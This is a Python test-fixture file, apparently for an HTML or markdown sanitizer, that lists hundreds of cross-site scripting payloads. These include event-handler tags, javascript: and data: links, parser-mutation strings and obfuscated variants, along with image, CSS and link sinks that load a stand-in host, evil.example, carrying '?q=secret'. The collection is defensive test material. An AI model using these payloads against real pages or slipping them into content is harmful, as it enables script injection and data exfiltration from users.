"""Texts that try to run a script, load something from elsewhere, or lead a reader astray. `evil.example` must never be asked."""

_IN_MARKDOWN = """
<script>alert(1)</script>
<img src=x onerror=alert(1)>
<img src="http://evil.example/?q=1">
<svg onload=alert(1)></svg>
<svg><script href="http://evil.example/x.js"></script></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>
<svg><image href="http://evil.example/i"></image></svg>
<svg><foreignObject><iframe src=http://evil.example></iframe></foreignObject></svg>
<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>
<math href="javascript:alert(1)">x</math>
<iframe src="http://evil.example"></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<object data="http://evil.example"></object>
<embed src="http://evil.example">
<link rel=stylesheet href="http://evil.example/x.css">
<link rel=prefetch href="http://evil.example/p">
<style>@import "http://evil.example/x.css";</style>
<style>body{background:url(http://evil.example/b)}</style>
<div style="background:url(http://evil.example/d)">x</div>
<p style="behavior:url(http://evil.example/h)">x</p>
<meta http-equiv=refresh content="0;url=http://evil.example">
<base href="http://evil.example/">
<form action="http://evil.example"><input name=q autofocus onfocus=alert(1)></form>
<button formaction="javascript:alert(1)">x</button>
<input type=image src="http://evil.example/i">
<video src="http://evil.example/v" autoplay onerror=alert(1)></video>
<video poster="http://evil.example/p"></video>
<audio src="http://evil.example/a" autoplay></audio>
<source srcset="http://evil.example/s">
<picture><source srcset="http://evil.example/s"><img srcset="http://evil.example/t 1x"></picture>
<body onload=alert(1)>
<body background="http://evil.example/b">
<table background="http://evil.example/t"><td background="http://evil.example/u">x</table>
<details open ontoggle=alert(1)>x</details>
<marquee onstart=alert(1)>x</marquee>
<a href="javascript:alert(1)">x</a>
<a href="&#106;avascript:alert(1)">x</a>
<a href="java&#9;script:alert(1)">x</a>
<a href="https://a.example" ping="http://evil.example/ping">x</a>
<a href="https://a.example" onmouseover=alert(1)>x</a>
<template><script>alert(1)</script></template>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<textarea><img src=x onerror=alert(1)></textarea>
<title><img src=x onerror=alert(1)></title>
<xmp><img src=x onerror=alert(1)></xmp>
<!--<img src=x onerror=alert(1)>-->
<![CDATA[<img src=x onerror=alert(1)>]]>
<?xml-stylesheet href="http://evil.example/x.xsl"?>
<!DOCTYPE html SYSTEM "http://evil.example/x.dtd">
<scr<script>ipt>alert(1)</scr</script>ipt>
<<script>alert(1)//<</script>
<IMG SRC=JaVaScRiPt:alert(1)>
<img/src=x/onerror=alert(1)>
<img src=x onerror=alert(1)//
<custom-element onclick=alert(1) tabindex=1 autofocus onfocus=alert(1)>x</custom-element>
&lt;img src=x onerror=alert(1)&gt;
&#60;script&#62;alert(1)&#60;/script&#62;
![](http://evil.example/?q=secret)
![x](http://evil.example/?q=secret)
![x](http://evil.example/a "title")
![x](<http://evil.example/a b>)
![x](https://evil.example/%22%20onerror=alert(1))
![](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)
![" onerror="alert(1)](http://evil.example/x)
![<img src=x onerror=alert(1)>](http://evil.example/x)
![![nested](http://evil.example/1)](http://evil.example/2)
[![x](http://evil.example/i)](https://a.example)
[x](javascript:alert(1))
[x](JAVASCRIPT:alert(1))
[x](javascript&colon;alert(1))
[x](javascript&#58;alert(1))
[x](&#x6A;avascript:alert(1))
[x](java%0ascript:alert(1))
[x](\\javascript:alert(1))
[x](vbscript:msgbox(1))
[x](data:text/html,<script>alert(1)</script>)
[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)
[x](file:///etc/passwd)
[x](blob:http://evil.example/1)
[x](//evil.example)
[x](\\\\evil.example\\share)
[x](https://bank.example@evil.example)
[x](https://a.example" onmouseover="alert(1))
[x](https://a.example 'title" onmouseover="alert(1)')
[x](<javascript:alert(1)>)
[x](mailto:a@b.example?bcc=evil@evil.example)
[<img src=x onerror=alert(1)>](https://a.example)
<javascript:alert(1)>
<data:text/html,x>
<http://evil.example/"onmouseover="alert(1)>
```html"><img src=x onerror=alert(1)>
`<img src=x onerror=alert(1)>`
| <img src=x onerror=alert(1)> |
# <script>alert(1)</script>
> <img src=x onerror=alert(1)>
- <svg onload=alert(1)>
**<img src=x onerror=alert(1)>**
"""
_OVER_LINES = (
    "[x][r]\n\n[r]: javascript:alert(1)",
    "![x][r]\n\n[r]: http://evil.example/?q=secret",
    "![r]\n\n[r]: http://evil.example/?q=secret 'title'",
    "[r]: <javascript:alert(1)>\n\n[r]",
    "[x](java\nscript:alert(1))",
    "<img\nsrc=x\nonerror=alert(1)>",
    "<script>\nalert(1)\n</script>",
    "<div>\n\n<img src=x onerror=alert(1)>\n\n</div>",
    "| a |\n|---|\n| ![x](http://evil.example/t) |",
    '```"><img src=x onerror=alert(1)>\ncode\n```',
    "    <script>alert(1)</script>",
    "a\x00<script>alert(1)</script>",
    "<img src=x one\x00rror=alert(1)>",
    "\u2028<script>alert(1)</script>",
    "<a href='java\u00a0script:alert(1)'>x</a>",
    "[x](\u0001javascript:alert(1))",
    "[x](https://evil\u3002example)",
    "\ufeff<script>alert(1)</script>",
)
# Every element that can be made to load or to react, with the attribute that does it without a click.
_REACTING = (
    ("img src=x", "onerror"),
    ("img src=x", "onloadstart"),
    ("image src=x", "onerror"),
    ("video src=x", "onerror"),
    ("video controls src=x", "onloadstart"),
    ("audio src=x", "onerror"),
    ("source src=x", "onerror"),
    ("track default src=x", "onerror"),
    ("embed src=x", "onload"),
    ("object data=x", "onerror"),
    ("iframe src=about:blank", "onload"),
    ("link rel=stylesheet href=x", "onerror"),
    ("style", "onload"),
    ("script src=x", "onerror"),
    ("svg", "onload"),
    ("svg><set attributeName=x dur=1s", "onbegin"),
    ("svg><use href=x", "onload"),
    ("svg><image href=x", "onerror"),
    ("math><maction actiontype=statusline", "onfocusin"),
    ("body", "onpageshow"),
    ("body", "onhashchange"),
    ("input autofocus", "onfocus"),
    ("select autofocus", "onfocus"),
    ("textarea autofocus", "onfocus"),
    ("button autofocus", "onfocus"),
    ("a href=x autofocus", "onfocus"),
    ("div contenteditable autofocus", "onfocus"),
    ("div tabindex=0 autofocus", "onfocusin"),
    ("details open", "ontoggle"),
    ("dialog open", "onclose"),
    ("div popover id=p", "onbeforetoggle"),
    ("marquee", "onscroll"),
    ("p style=animation-name:x", "onanimationstart"),
    ("p style=transition:1s", "ontransitionend"),
    ("p", "onpointerrawupdate"),
    ("p", "onmouseenter"),
    ("p", "oncopy"),
    ("form", "onformdata"),
)
# What a browser fetches by itself, and what only a reader's click would open.
_FETCHED = (
    "<img src={}>",
    "<img srcset='{} 2x'>",
    "<img lowsrc={}>",
    "<input type=image src={}>",
    "<link rel=preload as=image href={}>",
    "<link rel=preconnect href={}>",
    "<link rel=dns-prefetch href={}>",
    "<link rel=icon href={}>",
    "<link rel=manifest href={}>",
    "<style>@font-face{{font-family:x;src:url({})}}*{{font-family:x}}</style>",
    "<style>input[value^=a]{{background:url({})}}</style>",
    "<p style=background-image:url({})>",
    "<p style='list-style:url({})'>",
    "<p style='content:url({})'>",
    "<p style='cursor:url({}),auto'>",
    "<svg><image xlink:href={} /></svg>",
    "<svg><feImage href={} /></svg>",
    "<svg><use href={}#x /></svg>",
    "<frameset><frame src={}></frameset>",
    "<portal src={}></portal>",
    "<applet archive={}></applet>",
    "<bgsound src={}>",
    "<script src={}></script>",
    "<script type=module>import '{}'</script>",
    "<meta http-equiv=refresh content='1;url={}'>",
    "<html manifest={}>",
    "![]({})",
    "![][e]\n\n[e]: {}",
    "[![]({})]({})",
)
# Texts whose meaning changes when a parser mends them.
_MENDED = (
    "<noscript><style></noscript><img src=x onerror=alert(1)>",
    "<svg></p><style><a id='</style><img src=x onerror=alert(1)>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>",
    "<math><mi><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=alert(1)&gt;'>",
    "<select><template><img src=x onerror=alert(1)></template></select>",
    "<p><svg><style><img src=x onerror=alert(1)>",
    "<table><caption><img src=x onerror=alert(1)></table>",
    "<a title='&quot;&gt;&lt;img src=x onerror=alert(1)&gt;'>x</a>",
    "<option><style></option></select><b><img src=x onerror=alert(1)></style></option>",
    "<svg><desc><noembed></desc></svg><script>alert(1)</script></noembed>",
)
_ELSEWHERE = "http://evil.example/?q=secret"
HOSTILE = (
    *(line for line in _IN_MARKDOWN.splitlines() if line),
    *_OVER_LINES,
    *_MENDED,
    *(f"<{element} {handler}=alert(1)>x" for element, handler in _REACTING),
    *(sink.format(_ELSEWHERE, _ELSEWHERE) for sink in _FETCHED),
    *(f"[x]({scheme}:{_ELSEWHERE})" for scheme in ("ftp", "ws", "intent", "view-source", "ms-word", "x")),
    *(f"<a href='{c}javascript:alert(1)'>x</a>" for c in ("\t", "\x0b", "\u200b", "\u00ad", "\u202e", " ")),
    *(
        f"see {prefix}evil.example/?q=secret now"
        for prefix in ("http://", "https://", "www.", "//", "ftp://")
    ),
)
